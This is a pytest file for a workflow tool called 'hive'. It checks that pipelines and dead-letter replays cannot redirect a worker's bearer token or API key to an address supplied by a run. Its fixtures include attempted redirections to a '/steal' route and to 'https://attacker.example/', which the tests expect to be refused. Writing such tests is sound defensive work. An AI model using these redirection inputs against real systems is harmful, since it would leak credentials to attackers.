"""A producer cannot send a worker's credential to an address of its choosing: a pipeline
whose step would take that address from a run is refused when it loads (by `hive pipelines
validate`, and by `hive submit`, before anything is stored or sent), and a replay's edited
input may not change it either."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from hive import Client
from hive.errors import RunFailed
from tests.support import db
from tests.support.commands import describe, run_hive
from tests.support.http_service import HttpService, Reply
from tests.support.processes import HiveProcess

TOKEN = "tok-pinned-5c0e9a17d2"

LEAKY_HTTP = """\
name: leaky-http
version: 1
input_schema: {type: object, required: [url], properties: {url: {type: string}}}
steps:
  - id: call
    agent: http
    input:
      url: $input.url
      auth: {type: bearer, env: PARTNER_TOKEN}
"""

LEAKY_LLM = """\
name: leaky-llm
version: 1
input_schema: {type: object, properties: {base_url: {type: string}, model: {type: string}}}
steps:
  - id: ask
    agent: llm
    input:
      provider: openai
      base_url: $input.base_url
      model: $input.model
      api_key_env: OPENAI_API_KEY
      messages: [{role: user, content: hi}]
"""


@pytest.fixture
def service() -> Iterator[HttpService]:
    server = HttpService()
    yield server
    server.close()


@pytest.mark.timeout(120)
def test_a_pipeline_taking_a_credential_s_destination_from_the_run_is_refused_at_load(
    start_worker: Callable[..., HiveProcess],
    service: HttpService,
    env: dict[str, str],
    tmp_path: Path,
) -> None:
    leaky = tmp_path / "pipelines"
    leaky.mkdir()
    (leaky / "leaky-http.yaml").write_text(LEAKY_HTTP)
    (leaky / "leaky-llm.yaml").write_text(LEAKY_LLM)
    http_file, llm_file = leaky / "leaky-http.yaml", leaky / "leaky-llm.yaml"
    literal = "must be written in the pipeline, not taken from a reference"
    start_worker("--concurrency", "1", extra_env={"PARTNER_TOKEN": TOKEN})

    checked = run_hive("pipelines", "validate", str(leaky), env=env)

    assert checked.returncode == 1, describe(checked)
    assert checked.stderr.splitlines() == [
        f"{http_file}: step 'call': input.url: {literal} ($input.url): auth is set, and a "
        "run's input could send the credential elsewhere",
        f"{llm_file}: step 'ask': input.base_url: {literal} ($input.base_url): a run's input "
        "could send the API key elsewhere",
        f"{llm_file}: step 'ask': input.model: {literal} ($input.model): it labels metrics "
        "and keys the farm's limits, which must stay a bounded set",
    ]
    assert "ok" not in checked.stdout

    submitted = run_hive(
        "submit", "leaky-http", "--input", json.dumps({"url": service.url("/steal")}),
        env={**env, "HIVE_PIPELINES_DIR": str(leaky)},
    )  # fmt: skip

    assert submitted.returncode == 1, describe(submitted)
    assert f"{http_file}: step 'call': input.url: {literal}" in submitted.stderr
    assert "Traceback" not in submitted.stderr
    assert db.scalar("SELECT count(*) FROM runs") == 0, "nothing stored"
    assert service.requests == [], "nothing sent"


@pytest.mark.timeout(180)
def test_a_replay_s_edited_input_may_not_change_where_the_credential_goes(
    start_worker: Callable[..., HiveProcess],
    service: HttpService,
    env: dict[str, str],
) -> None:
    service.route("/api/missing", Reply(404))
    service.route("/api/found", Reply(json={"found": True}))
    Client().services.register("partner", service.url("/api"))
    start_worker("--concurrency", "1", extra_env={"PARTNER_TOKEN": TOKEN})
    run = Client().submit("http-bearer", {"path": "/missing"})
    with pytest.raises(RunFailed):
        run.wait(timeout=60)
    bearer = {"type": "bearer", "env": "PARTNER_TOKEN"}

    def replay(new_input: dict[str, object]) -> str:
        done = run_hive("dlq", "replay", str(run.id), "--input", json.dumps(new_input), env=env)
        assert done.returncode == 1, describe(done)
        assert db.run_status(run.id) == "failed", "a refused replay changes nothing"
        return done.stderr

    elsewhere = replay({"service": "elsewhere", "path": "/found", "auth": bearer})
    to_url = replay({"url": "https://attacker.example/", "auth": bearer})
    other_variable = replay(
        {"service": "partner", "path": "/found", "auth": {**bearer, "env": "OTHER_TOKEN"}}
    )
    fixed = run_hive(
        "dlq", "replay", str(run.id), "--input",
        json.dumps({"service": "partner", "path": "/found", "auth": bearer}), env=env,
    )  # fmt: skip
    assert fixed.returncode == 0, describe(fixed)
    output = Client().run(run.id).wait(timeout=60)

    why = "may not differ from the pipeline's: auth is set, and a run's input could send"
    assert f"the new input of step 'call' changes what its pipeline sets: input.service: {why}" in (
        elsewhere
    )
    assert "input.service" in to_url and f"input.url: {why}" in to_url
    assert f"input.auth: {why}" in other_variable and "input.service" not in other_variable
    assert output["body"] == {"found": True}
    assert [r.path for r in service.requests] == ["/api/missing", "/api/found"]
    assert {r.headers["authorization"] for r in service.requests} == {f"Bearer {TOKEN}"}
